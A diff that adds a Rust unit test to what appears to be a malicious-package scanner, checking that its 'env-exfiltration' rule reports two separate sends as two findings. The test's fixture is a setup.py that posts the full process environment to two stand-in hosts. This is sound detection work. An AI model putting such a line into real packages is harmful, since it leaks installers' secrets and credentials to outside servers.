@@ -318,3 +318,18 @@ fn homoglyph_identifiers_are_the_builtins_they_normalise_to() {
         found[0].message
     );
 }
+
+/// Folding a request's parts into one send must not fold separate requests: two posts of
+/// the environment to two hosts are two findings.
+#[test]
+fn separate_sends_through_one_api_stay_separate() {
+    let setup = "import os, json, requests\n\
+        requests.post('https://a.example.com/x', data=json.dumps(dict(os.environ)))\n\
+        requests.post('https://b.example.com/y', data=json.dumps(dict(os.environ)))\n";
+    let report = sdist_with_setup(setup);
+    let lines: Vec<u32> = with_rule(&report, "env-exfiltration")
+        .iter()
+        .map(|f| f.line)
+        .collect();
+    assert_eq!(lines, [2, 3], "{:?}", report.findings);
+}
